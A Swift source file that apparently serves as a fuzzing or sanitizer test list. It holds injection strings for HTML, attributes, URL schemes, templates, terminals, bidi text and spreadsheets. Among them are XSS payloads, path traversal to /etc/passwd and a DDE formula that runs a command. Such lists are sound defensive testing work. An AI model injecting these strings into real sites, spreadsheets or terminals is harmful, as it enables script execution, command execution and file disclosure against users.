/// Texts that were made to be alive in some sink: markup, scripts, terminals, spreadsheets.
enum InjectionPayloads {
  static let all: [String] =
    markup + attributes + schemes + endings + entities + terminals + directions + tables + odd

  private static let markup = [
    "<script>alert(1)</script>", "<SCRIPT SRC=//x.example/a.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
    "<iframe src=javascript:alert(1)>",
    "<body onload=alert(1)>", "<b>bold", "</b></i></p>", "<!-- comment", "--><b>", "<![CDATA[x]]>",
    "<?xml version=\"1.0\"?>", "<!DOCTYPE html>", "<style>*{display:none}</style>",
    "</style><script>alert(1)</script>", "</title><script>alert(1)</script>",
    "<base href=//x.example/>", "<meta http-equiv=refresh content=0;url=//x.example>",
    "<link rel=stylesheet href=//x.example/a.css>", "<form action=//x.example><input name=a>",
    "<object data=//x.example></object>", "<math><mtext></mtext></math>", "<template><b>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<plaintext>", "<xmp>",
    "<a href=\"//x.example\">click</a>", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<", "<<",
    "< b>",
    "<b\u{0}>", "<\u{FF1C}script>", "\u{FF1C}script\u{FF1E}",
  ]
  private static let attributes = [
    "\" onmouseover=\"alert(1)", "' onmouseover='alert(1)", "\"><script>alert(1)</script>",
    "'><img src=x>", "` onload=alert(1) `", "\" style=\"position:fixed;inset:0", "x\" autofocus \"",
    "\"/><b>", "\\\"><b>", "\"\n onfocus=\"alert(1)", "\" srcset=\"//x.example/a.png 1x", "=\"\"",
  ]
  private static let schemes = [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\nscript:alert(1)",
    "data:text/html,<b>x</b>",
    "vbscript:x", "//x.example/a", "http://x.example/?a=b&c=d", "file:///etc/passwd",
    "../../../etc/passwd",
    "..", ".", "%2e%2e%2f", "a?b#c", "a b%zz", "\\\\host\\share",
  ]
  private static let endings = [
    "]]>", "]]&gt;", "</svg>", "</metadata>", "*/", "-->", "</article></body></html>",
    "</blockquote>",
    "{{7*7}}", "${7*7}", "<%= 7 %>", "#{7}",
  ]
  private static let entities = [
    "&lt;script&gt;", "&#60;b&#62;", "&#x3c;b", "&", "&amp;", "&quot; onload=x", "&Tab;", "&notit;",
    "&#0;",
  ]
  private static let terminals = [
    "\u{1B}[31mred\u{1B}[0m", "\u{1B}]0;title\u{7}", "\u{1B}]8;;http://x.example\u{1B}\\link",
    "\u{9B}2J", "a\rb", "a\u{8}\u{8}b", "\u{7}", "\u{1B}c", "\u{1B}[2K\u{1B}[1A",
  ]
  private static let directions = [
    "\u{202E}txt.exe", "\u{2066}a\u{2069}", "a\u{200F}b", "\u{202A}\u{202B}", "a\u{2028}b\u{2029}c",
    "\u{FEFF}x", "\u{200B}",
  ]
  private static let tables = [
    "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\u{FF1D}1", "a,b;c\td",
    "\"a\"\r\n\"b\"",
  ]
  private static let odd = [
    "", " ", "\n\n", "null", "undefined", "NaN", "-0", "true", "\u{0}", "a\u{0}b",
    "\u{FFFE}\u{FFFF}",
    "\u{1F600}\u{1F3FD}", "e\u{301}\u{301}\u{301}", String(repeating: "<b>\"'&", count: 4000),
    String(repeating: "a", count: 20_000),
  ]
}
